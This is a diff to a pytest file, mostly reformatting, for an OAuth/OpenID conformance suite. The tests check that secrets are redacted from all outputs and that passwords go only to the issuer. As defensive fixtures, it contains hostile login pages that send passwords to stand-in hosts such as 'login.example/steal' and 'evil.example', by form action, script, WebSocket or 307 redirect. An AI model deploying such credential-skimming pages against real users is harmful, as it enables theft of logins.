@@ -14,6 +14,7 @@ from urllib.parse import quote, quote_plus
 import pytest
 from faulty_servers import Answer, HostileServer
 from run import ROOT, SANDBOX_YAML, run_suite, write_environment
+
 from suite.wire.browser import chromium_path
 
 BROWSER_YAML = (ROOT / "environments" / "sandbox-browser.yaml").read_text(encoding="utf-8")
@@ -26,28 +27,51 @@ RECOGNISABLE = {
 }
 # Rules that fail on purpose, so failure output (messages, tracebacks, locals) is exercised.
 # token-response-not-json serves tokens as text/plain: the suite must learn them all the same.
-DEFECTS = ("wrong-secret-accepted", "code-reusable", "refresh-for-spa", "tenant-claim-missing", "no-store-missing",
-           "token-response-not-json")
+DEFECTS = (
+    "wrong-secret-accepted",
+    "code-reusable",
+    "refresh-for-spa",
+    "tenant-claim-missing",
+    "no-store-missing",
+    "token-response-not-json",
+)
 
 
 # Each login method hands the callback over its own way: HTTP redirects, or a browser that the
 # suite's HTTP client never sees.
-@pytest.mark.parametrize("login", [
-    "form",
-    pytest.param("browser", marks=pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"),
-                                                     reason="needs Debian's chromium; CI installs it")),
-])
+@pytest.mark.parametrize(
+    "login",
+    [
+        "form",
+        pytest.param(
+            "browser",
+            marks=pytest.mark.skipif(
+                chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium; CI installs it"
+            ),
+        ),
+    ],
+)
 def test_no_secret_in_any_output(tmp_path, login):
     text = SANDBOX_YAML if login == "form" else BROWSER_YAML
     for old, new in RECOGNISABLE.items():
         text = text.replace(old, new)
     environment = write_environment(tmp_path, text)
     witness, reports = tmp_path / "witness.txt", tmp_path / "reports"
-    result = run_suite(f"--env={environment}", *(f"--defect={d}" for d in DEFECTS),
-                       f"--alluredir={reports / 'allure-results'}", f"--junitxml={reports / 'junit.xml'}",
-                       f"--compliance={reports / 'compliance.json'}", "--showlocals", "--tb=long", "-rA",
-                       "-o", "log_cli=true", "-o", "log_level=DEBUG",
-                       environ={"SANDBOX_WITNESS_FILE": str(witness)})
+    result = run_suite(
+        f"--env={environment}",
+        *(f"--defect={d}" for d in DEFECTS),
+        f"--alluredir={reports / 'allure-results'}",
+        f"--junitxml={reports / 'junit.xml'}",
+        f"--compliance={reports / 'compliance.json'}",
+        "--showlocals",
+        "--tb=long",
+        "-rA",
+        "-o",
+        "log_cli=true",
+        "-o",
+        "log_level=DEBUG",
+        environ={"SANDBOX_WITNESS_FILE": str(witness)},
+    )
     assert result.returncode == 1, result.stdout[-3000:] + result.stderr
     secrets = set(witness.read_text().split()) | set(RECOGNISABLE.values())
     kinds = witness.read_text()
@@ -60,31 +84,45 @@ def test_no_secret_in_any_output(tmp_path, login):
             outputs[str(path.relative_to(tmp_path))] = path.read_text(encoding="utf-8", errors="replace")
     assert any("allure-results" in name for name in outputs) and "reports/junit.xml" in outputs
     assert "--showlocals is turned off: local variables hold secrets" in outputs["terminal"]
-    assert re.search(r"\[(access_token|refresh_token|authorization code|code_verifier|cookie redacted)\]",
-                     "".join(outputs.values())), "no masked value shown anywhere"
+    assert re.search(
+        r"\[(access_token|refresh_token|authorization code|code_verifier|cookie redacted)\]", "".join(outputs.values())
+    ), "no masked value shown anywhere"
 
     # Whole secrets, and the head and tail of each: pytest cuts long values in the middle.
     fragments = {secret: {secret, secret[:16], secret[-16:]} if len(secret) >= 32 else {secret} for secret in secrets}
-    leaks = [(name, secret[:8] + "...") for name, content in outputs.items()
-             for secret, parts in fragments.items() if any(part in content for part in parts)]
+    leaks = [
+        (name, secret[:8] + "...")
+        for name, content in outputs.items()
+        for secret, parts in fragments.items()
+        if any(part in content for part in parts)
+    ]
     assert not leaks, f"secrets found in output: {leaks[:10]}"
     jwt = re.compile(r"eyJ[\w-]{10,}\.eyJ[\w-]{10,}")
     assert not [name for name, content in outputs.items() if jwt.search(content)], "a JWT reached an output"
 
 
 # A hostile or careless server: every encoding of every secret, every content type.
-PASSWORD = 'p a+s=s%w/o&rd"\\x-5e1b'   # every character URL encoding or JSON escaping changes
+PASSWORD = 'p a+s=s%w/o&rd"\\x-5e1b'  # every character URL encoding or JSON escaping changes
 CLIENT_SECRET = "Svc/Secret+7f3a 9c1e=="
 TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ0ZXN0LXVzZXItOTk5In0.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg"
 
 
 def _every_encoding(secret: str) -> set[str]:
-    forms = {secret, quote(secret, safe=""), quote(secret), quote_plus(secret), json.dumps(secret)[1:-1],
-             quote(secret).lower()}
+    forms = {
+        secret,
+        quote(secret, safe=""),
+        quote(secret),
+        quote_plus(secret),
+        json.dumps(secret)[1:-1],
+        quote(secret).lower(),
+    }
     # Base64 inside HTTP Basic (`client_id:secret`): the characters that depend on the secret
     # alone, after a client id of any length (three alignments).
-    forms |= {base64.b64encode(b"-" * shift + text.encode()).decode()[4:-4]
-              for shift in range(3) for text in (secret, quote_plus(secret))}
+    forms |= {
+        base64.b64encode(b"-" * shift + text.encode()).decode()[4:-4]
+        for shift in range(3)
+        for text in (secret, quote_plus(secret))
+    }
     return forms | {f[:12] for f in forms} | {f[-12:] for f in forms}
 
 
@@ -92,26 +130,37 @@ def test_every_encoding_of_a_secret_is_scrubbed_from_exchanges_whatever_the_cont
     """The password under a custom field name, a client secret in HTTP Basic, both echoed back
     JSON-escaped and URL-encoded in a text/html error, and a token in a text/plain response."""
     from suite.configuration.environment import HttpSettings
-    from suite.wire.http import HttpClient
     from suite.secrets.redaction import REDACTOR
+    from suite.wire.http import HttpClient
 
     def echo(body):
-        return Answer(400, {"Content-Type": "text/html"},
-                      json.dumps({"error": "invalid_grant", "error_description": f"bad {PASSWORD} for {body}"}).encode())
-    server = HostileServer({
-        "/login": echo,
-        "/token": Answer(200, {"Content-Type": "text/plain"}, f"access_token={TOKEN}&token_type=Bearer".encode()),
-        "/token-json-as-text": Answer(200, {"Content-Type": "text/plain"},
-                                      json.dumps({"refresh_token": TOKEN[::-1]}).encode()),
-    })
+        return Answer(
+            400,
+            {"Content-Type": "text/html"},
+            json.dumps({"error": "invalid_grant", "error_description": f"bad {PASSWORD} for {body}"}).encode(),
+        )
+
+    server = HostileServer(
+        {
+            "/login": echo,
+            "/token": Answer(200, {"Content-Type": "text/plain"}, f"access_token={TOKEN}&token_type=Bearer".encode()),
+            "/token-json-as-text": Answer(
+                200, {"Content-Type": "text/plain"}, json.dumps({"refresh_token": TOKEN[::-1]}).encode()
+            ),
+        }
+    )
     try:
         REDACTOR.register(PASSWORD, "login.password")
         REDACTOR.register(CLIENT_SECRET, "clients.service.client_secret")
         REDACTOR.secret_field("pwd")
         http = HttpClient(HttpSettings(retries=0), server.url)
         http.send("POST", server.url + "/login", data={"user": "test.user", "pwd": PASSWORD})
-        http.send("POST", server.url + "/token", data={"grant_type": "client_credentials"},
-                  auth=("client", quote_plus(CLIENT_SECRET)))
+        http.send(
+            "POST",
+            server.url + "/token",
+            data={"grant_type": "client_credentials"},
+            auth=("client", quote_plus(CLIENT_SECRET)),
+        )
         http.send("POST", server.url + "/token-json-as-text", data={"grant_type": "client_credentials"})
         http.send("GET", server.url + "/echo?note=" + quote(TOKEN + " " + TOKEN[::-1]))
     finally:
@@ -127,7 +176,7 @@ def test_every_encoding_of_a_secret_is_scrubbed_from_exchanges_whatever_the_cont
 HOSTILE_CLIENTS = {  # for an environment file: the secret comes from T_SECRET
     "service": "  service:\n    client_id: hostile-service\n    client_secret: ${T_SECRET}\n    scope: visma_api:read\n",
     "web": "  web:\n    client_id: hostile-web\n    client_secret: ${T_SECRET}\n"
-           "    redirect_uri: https://web.app.local/callback\n    scope: openid\n",
+    "    redirect_uri: https://web.app.local/callback\n    scope: openid\n",
     "spa": "  spa:\n    client_id: hostile-spa\n    redirect_uri: https://spa.app.local/callback\n    scope: openid\n",
 }
 
@@ -135,7 +184,8 @@ HOSTILE_CLIENTS = {  # for an environment file: the secret comes from T_SECRET
 def _hostile_environment(issuer: str, *clients: str) -> str:
     """An environment file for a HostileServer, with those of HOSTILE_CLIENTS named."""
     return f"name: hostile\nissuer: {issuer}\nhttp: {{retries: 0}}\nclients:\n" + "".join(
-        HOSTILE_CLIENTS[name] for name in clients)
+        HOSTILE_CLIENTS[name] for name in clients
+    )
 
 
 # 180 characters, then a secret: the suite's 200-character excerpt of a body cuts it in two.
@@ -143,15 +193,30 @@ PAST_THE_CUT = "x" * 180 + f" {CLIENT_SECRET} "
 LETTERS_TOKEN = "ZzXyWvUtSrQpOnMlKjIhGfEdCbAzYxWv"  # an opaque token without a digit
 
 
-@pytest.mark.parametrize("path, answer, rules, shown", [
-    ("/connect/token", Answer(200, {"Content-Type": "text/plain"}, f"{PAST_THE_CUT}access_token={TOKEN}".encode()),
-     ("SVC-01", "SVC-03"), "not a JSON object"),
-    ("/connect/revocation", Answer(400, {"Content-Type": "text/plain"}, f"{PAST_THE_CUT}{TOKEN}".encode()),
-     ("REV-01",), "the revocation endpoint answered HTTP 400"),
-    ("/connect/token", Answer(200, {"Content-Type": "text/html"},
-                              f'<pre>{{"access_token": "{LETTERS_TOKEN}"}}</pre>'.encode()), ("SVC-01",),
-     "not a JSON object"),
-], ids=["token-text-plain", "revocation-error", "token-in-html"])
+@pytest.mark.parametrize(
+    "path, answer, rules, shown",
+    [
+        (
+            "/connect/token",
+            Answer(200, {"Content-Type": "text/plain"}, f"{PAST_THE_CUT}access_token={TOKEN}".encode()),
+            ("SVC-01", "SVC-03"),
+            "not a JSON object",
+        ),
+        (
+            "/connect/revocation",
+            Answer(400, {"Content-Type": "text/plain"}, f"{PAST_THE_CUT}{TOKEN}".encode()),
+            ("REV-01",),
+            "the revocation endpoint answered HTTP 400",
+        ),
+        (
+            "/connect/token",
+            Answer(200, {"Content-Type": "text/html"}, f'<pre>{{"access_token": "{LETTERS_TOKEN}"}}</pre>'.encode()),
+            ("SVC-01",),
+            "not a JSON object",
+        ),
+    ],
+    ids=["token-text-plain", "revocation-error", "token-in-html"],
+)
 def test_a_body_is_scrubbed_then_cut_everywhere(tmp_path, path, answer, rules, shown):
     """A token endpoint that answers text/plain with a token, or HTML around a JSON token response,
     a revocation error that echoes the client secret past the suite's 200-character cut: none
@@ -161,9 +226,15 @@ def test_a_body_is_scrubbed_then_cut_everywhere(tmp_path, path, answer, rules, s
     try:
         environment = write_environment(tmp_path, _hostile_environment(server.url, "service", "web"))
         reports = tmp_path / "reports"
-        result = run_suite(f"--env={environment}", *(f"--rule={rule}" for rule in rules),
-                           f"--alluredir={reports / 'allure-results'}", f"--junitxml={reports / 'junit.xml'}",
-                           f"--compliance={reports / 'compliance.json'}", "-rA", environ={"T_SECRET": CLIENT_SECRET})
+        result = run_suite(
+            f"--env={environment}",
+            *(f"--rule={rule}" for rule in rules),
+            f"--alluredir={reports / 'allure-results'}",
+            f"--junitxml={reports / 'junit.xml'}",
+            f"--compliance={reports / 'compliance.json'}",
+            "-rA",
+            environ={"T_SECRET": CLIENT_SECRET},
+        )
     finally:
         server.close()
     assert result.returncode == 1, result.stdout[-3000:] + result.stderr
@@ -184,8 +255,14 @@ def test_a_skip_reason_quoting_the_server_is_scrubbed_everywhere(tmp_path):
     try:
         environment = write_environment(tmp_path, _hostile_environment(server.url, "web", "spa"))
         reports = tmp_path / "reports"
-        result = run_suite(f"--env={environment}", "--rule=AUTH-09", f"--junitxml={reports / 'junit.xml'}",
-                           f"--compliance={reports / 'compliance.json'}", "-rA", environ={"T_SECRET": CLIENT_SECRET})
+        result = run_suite(
+            f"--env={environment}",
+            "--rule=AUTH-09",
+            f"--junitxml={reports / 'junit.xml'}",
+            f"--compliance={reports / 'compliance.json'}",
+            "-rA",
+            environ={"T_SECRET": CLIENT_SECRET},
+        )
     finally:
         server.close()
     outputs = {"terminal": result.stdout + result.stderr}
@@ -204,11 +281,17 @@ def test_credentials_go_only_to_the_issuers_origin_and_never_over_plain_http(tmp
 
     elsewhere = HostileServer({})
     server = HostileServer({})
-    server.routes["/.well-known/openid-configuration"] = server.discovery(token_endpoint=elsewhere.url + "/connect/token")
+    server.routes["/.well-known/openid-configuration"] = server.discovery(
+        token_endpoint=elsewhere.url + "/connect/token"
+    )
     try:
         environment = write_environment(tmp_path, _hostile_environment(server.url, "service"))
-        result = run_suite(f"--env={environment}", "--rule=SVC-01", f"--compliance={tmp_path / 'c.json'}",
-                           environ={"T_SECRET": CLIENT_SECRET})
+        result = run_suite(
+            f"--env={environment}",
+            "--rule=SVC-01",
+            f"--compliance={tmp_path / 'c.json'}",
+            environ={"T_SECRET": CLIENT_SECRET},
+        )
     finally:
         server.close()
         elsewhere.close()
@@ -225,14 +308,17 @@ def test_credentials_go_only_to_the_issuers_origin_and_never_over_plain_http(tmp
         http.send("POST", "https://evil.example/connect/token", auth=("id", "secret"))
 
 
-
 # A hostile login page on the issuer: it sends the password elsewhere (another loopback origin
 # that records what it receives, or a real host over plain http) by its form's action, by a
 # script, or by answering the sign-in with a 307 redirect, which repeats the POST's body.
 def _hostile_login_page(action: str, script: str = "") -> Answer:
-    return Answer(200, {"Content-Type": "text/html"}, f"""<!doctype html><title>Sign in</title>
+    return Answer(
+        200,
+        {"Content-Type": "text/html"},
+        f"""<!doctype html><title>Sign in</title>
 <form method="post" action="{action}"><input id="username" name="username"><input id="password" name="password"
- type="password"><button id="sign-in" type="submit">Sign in</button></form><script>{script}</script>""".encode())
+ type="password"><button id="sign-in" type="submit">Sign in</button></form><script>{script}</script>""".encode(),
+    )
 
 
 STEAL_BY_SCRIPT = """document.forms[0].onsubmit = event => { event.preventDefault();
@@ -242,35 +328,60 @@ STEAL_BY_WEB_SOCKET = """document.forms[0].onsubmit = event => { event.preventDe
 HOSTILE_LOGIN_PAGES = {  # how the page sends the password away: (login page, what the suite says)
     "form-action": (lambda issuer, elsewhere: _hostile_login_page(elsewhere + "/steal"), "is not the issuer's origin"),
     "plain-http": (lambda issuer, elsewhere: _hostile_login_page("http://login.example/steal"), "over plain HTTP"),
-    "script": (lambda issuer, elsewhere: _hostile_login_page(
-        "/account/login", STEAL_BY_SCRIPT.replace("{elsewhere}", elsewhere)), "is not the issuer's origin"),
+    "script": (
+        lambda issuer, elsewhere: _hostile_login_page(
+            "/account/login", STEAL_BY_SCRIPT.replace("{elsewhere}", elsewhere)
+        ),
+        "is not the issuer's origin",
+    ),
     "redirect-307": (lambda issuer, elsewhere: _hostile_login_page("/account/login"), "is not the issuer's origin"),
-    "web-socket": (lambda issuer, elsewhere: _hostile_login_page("/account/login", STEAL_BY_WEB_SOCKET.replace(
-        "{elsewhere}", elsewhere.replace("http:", "ws:"))), "is not the issuer's origin"),
+    "web-socket": (
+        lambda issuer, elsewhere: _hostile_login_page(
+            "/account/login", STEAL_BY_WEB_SOCKET.replace("{elsewhere}", elsewhere.replace("http:", "ws:"))
+        ),
+        "is not the issuer's origin",
+    ),
 }
 # What each page is refused; the others, the password in a POST.
 REFUSED = {"web-socket": "a secret in the address of a WebSocket"}
 
 
-@pytest.mark.parametrize("login, page", [
-    ("form", "form-action"), ("form", "plain-http"),
-    *(pytest.param("browser", page, marks=pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"),
-                                                             reason="needs Debian's chromium; CI installs it"))
-      for page in HOSTILE_LOGIN_PAGES),
-])
+@pytest.mark.parametrize(
+    "login, page",
+    [
+        ("form", "form-action"),
+        ("form", "plain-http"),
+        *(
+            pytest.param(
+                "browser",
+                page,
+                marks=pytest.mark.skipif(
+                    chromium_path() is None and not os.environ.get("CI"),
+                    reason="needs Debian's chromium; CI installs it",
+                ),
+            )
+            for page in HOSTILE_LOGIN_PAGES
+        ),
+    ],
+)
 def test_the_password_goes_only_to_the_issuers_origin_whatever_the_login_page_says(tmp_path, login, page):
     """The login method, form or browser, refuses to send the test user's password anywhere the
     issuer does not vouch for, before it leaves, and the rule fails saying why."""
     elsewhere = HostileServer({"/steal": Answer(200, body=b"thanks")})
     server = HostileServer({})
     make_page, said = HOSTILE_LOGIN_PAGES[page]
-    server.routes.update({
-        "/.well-known/openid-configuration": server.discovery(),
-        "/connect/authorize": make_page(server.url, elsewhere.url),
-        "/account/login": Answer(307, {"Location": elsewhere.url + "/steal"}),
-    })
+    server.routes.update(
+        {
+            "/.well-known/openid-configuration": server.discovery(),
+            "/connect/authorize": make_page(server.url, elsewhere.url),
+            "/account/login": Answer(307, {"Location": elsewhere.url + "/steal"}),
+        }
+    )
     try:
-        environment = write_environment(tmp_path, _hostile_environment(server.url, "web") + f"""login:
+        environment = write_environment(
+            tmp_path,
+            _hostile_environment(server.url, "web")
+            + f"""login:
   method: {login}
   username: test.user
   password: ${{T_PASSWORD}}
@@ -285,9 +396,14 @@ def test_the_password_goes_only_to_the_issuers_origin_whatever_the_login_page_sa
           - fill: "#password"
             value: "{{password}}"
           - click: "#sign-in"
-""")
-        result = run_suite(f"--env={environment}", "--rule=AUTH-01", f"--compliance={tmp_path / 'c.json'}",
-                           environ={"T_SECRET": CLIENT_SECRET, "T_PASSWORD": PASSWORD})
+""",
+        )
+        result = run_suite(
+            f"--env={environment}",
+            "--rule=AUTH-01",
+            f"--compliance={tmp_path / 'c.json'}",
+            environ={"T_SECRET": CLIENT_SECRET, "T_PASSWORD": PASSWORD},
+        )
     finally:
         server.close()
         elsewhere.close()
@@ -297,14 +413,26 @@ def test_the_password_goes_only_to_the_issuers_origin_whatever_the_login_page_sa
     assert f"refused to send {REFUSED.get(page, 'password in POST ')}" in output and said in output, output[-3000:]
     assert not [form for form in _every_encoding(PASSWORD) if form in output]
 
+
 # A real server's run, as a partner makes it: secrets from the environment, the login form's own
 # password field name, and every character that an encoding changes in each secret.
-REAL_SECRETS = {"T_SERVICE_SECRET": CLIENT_SECRET, "T_WEB_SECRET": 'Web "secret"\\ +=%/&-2b8d',
-                "T_OTHER_SECRET": "Other%20Secret&x=1/93ce+", "T_PASSWORD": PASSWORD}
-REAL_SERVER_YAML = re.sub(r"sandbox:\n  defects: \[\].*\n", "issuer: {issuer}\n", SANDBOX_YAML).replace(
-    "name: sandbox", "name: hostile-real").replace("  form:\n", "  form:\n    password_field: pwd\n")
-for _value, _variable in (("sandbox-service-secret", "T_SERVICE_SECRET"), ("sandbox-web-secret", "T_WEB_SECRET"),
-                          ("sandbox-web-other-secret", "T_OTHER_SECRET"), ("sandbox-password", "T_PASSWORD")):
+REAL_SECRETS = {
+    "T_SERVICE_SECRET": CLIENT_SECRET,
+    "T_WEB_SECRET": 'Web "secret"\\ +=%/&-2b8d',
+    "T_OTHER_SECRET": "Other%20Secret&x=1/93ce+",
+    "T_PASSWORD": PASSWORD,
+}
+REAL_SERVER_YAML = (
+    re.sub(r"sandbox:\n  defects: \[\].*\n", "issuer: {issuer}\n", SANDBOX_YAML)
+    .replace("name: sandbox", "name: hostile-real")
+    .replace("  form:\n", "  form:\n    password_field: pwd\n")
+)
+for _value, _variable in (
+    ("sandbox-service-secret", "T_SERVICE_SECRET"),
+    ("sandbox-web-secret", "T_WEB_SECRET"),
+    ("sandbox-web-other-secret", "T_OTHER_SECRET"),
+    ("sandbox-password", "T_PASSWORD"),
+):
     REAL_SERVER_YAML = REAL_SERVER_YAML.replace(f": {_value}\n", f": ${{{{{_variable}}}}}\n")
 ALLURE = ROOT / "node_modules" / ".bin" / "allure"
 
@@ -317,23 +445,34 @@ def test_no_encoding_of_any_secret_in_any_output_of_a_real_server_run(tmp_path, 
     behind a proxy whose login form names the password field `pwd`, and whose every error
     echoes the credentials it received, in all those encodings."""
     from faulty_servers import FaultyProxy
+
     from sandbox import SandboxServer
-    from suite.wire.embedded_sandbox import registry_for
     from suite.configuration.environment import load_environment
+    from suite.wire.embedded_sandbox import registry_for
     from suite.wire.token_requests import WRONG_SECRET
 
     witness = tmp_path / "witness.txt"
     monkeypatch.setenv("SANDBOX_WITNESS_FILE", str(witness))
     proxy = FaultyProxy(renames={"password": "pwd"}, echo_credentials=True)
     environment = write_environment(tmp_path, REAL_SERVER_YAML.format(issuer=proxy.url))
-    sandbox = SandboxServer(registry_for(load_environment(str(environment), REAL_SECRETS)), defects,
-                            issuer=proxy.url, code_lifetime=3).start()
+    sandbox = SandboxServer(
+        registry_for(load_environment(str(environment), REAL_SECRETS)), defects, issuer=proxy.url, code_lifetime=3
+    ).start()
     proxy.target = sandbox.url
     reports = tmp_path / "reports"
     try:
-        result = run_suite(f"--env={environment}", f"--alluredir={reports / 'allure-results'}",
-                           f"--junitxml={reports / 'junit.xml'}", f"--compliance={reports / 'compliance.json'}",
-                           "-rA", "-o", "log_cli=true", "-o", "log_level=DEBUG", environ=REAL_SECRETS)
+        result = run_suite(
+            f"--env={environment}",
+            f"--alluredir={reports / 'allure-results'}",
+            f"--junitxml={reports / 'junit.xml'}",
+            f"--compliance={reports / 'compliance.json'}",
+            "-rA",
+            "-o",
+            "log_cli=true",
+            "-o",
+            "log_level=DEBUG",
+            environ=REAL_SECRETS,
+        )
     finally:
         proxy.close()
         sandbox.stop()
@@ -343,24 +482,49 @@ def test_no_encoding_of_any_secret_in_any_output_of_a_real_server_run(tmp_path, 
     # The project's own allurerc.mjs, in a scratch copy of the project: its paths are relative.
     (tmp_path / "allurerc.mjs").write_text((ROOT / "allurerc.mjs").read_text())
     (tmp_path / "node_modules").symlink_to(ROOT / "node_modules")
-    for command, cwd in (([str(ALLURE), "generate", "reports/allure-results"], tmp_path),
-                         ([sys.executable, "-m", "suite.reports.report_page", str(reports / "allure-report"),
-                           str(reports / "compliance.json")], ROOT)):
+    for command, cwd in (
+        ([str(ALLURE), "generate", "reports/allure-results"], tmp_path),
+        (
+            [
+                sys.executable,
+                "-m",
+                "suite.reports.report_page",
+                str(reports / "allure-report"),
+                str(reports / "compliance.json"),
+            ],
+            ROOT,
+        ),
+    ):
         made = subprocess.run(command, cwd=cwd, capture_output=True, text=True, timeout=120)
         assert made.returncode == 0, made.stdout[-2000:] + made.stderr[-2000:]
         terminal += made.stdout + made.stderr
     if not defects:
-        certificate = subprocess.run([sys.executable, "-m", "suite.reports.certificate", str(reports / "compliance.json")],
-                                     cwd=ROOT, capture_output=True, text=True, timeout=120)
+        certificate = subprocess.run(
+            [sys.executable, "-m", "suite.reports.certificate", str(reports / "compliance.json")],
+            cwd=ROOT,
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         terminal += certificate.stdout + certificate.stderr
         assert (reports / "certificate.html").exists(), certificate.stderr
 
     outputs = {"terminal": terminal}
-    outputs.update({str(p.relative_to(tmp_path)): p.read_text(errors="replace") for p in reports.rglob("*")
-                    if p.is_file() and p.suffix != ".pdf"})
+    outputs.update(
+        {
+            str(p.relative_to(tmp_path)): p.read_text(errors="replace")
+            for p in reports.rglob("*")
+            if p.is_file() and p.suffix != ".pdf"
+        }
+    )
     assert "reports/allure-report/index.html" in outputs and any("-attachment" in name for name in outputs)
     # The wrong secret the suite sends on purpose is written in its source: no secret at all.
     secrets = (set(REAL_SECRETS.values()) | set(witness.read_text().splitlines())) - {WRONG_SECRET}
-    leaks = [(name, secret[:6] + "...", form[:6] + "...") for secret in secrets for form in _every_encoding(secret)
-             for name, text in outputs.items() if form in text]
+    leaks = [
+        (name, secret[:6] + "...", form[:6] + "...")
+        for secret in secrets
+        for form in _every_encoding(secret)
+        for name, text in outputs.items()
+        if form in text
+    ]
     assert not leaks, leaks[:10]
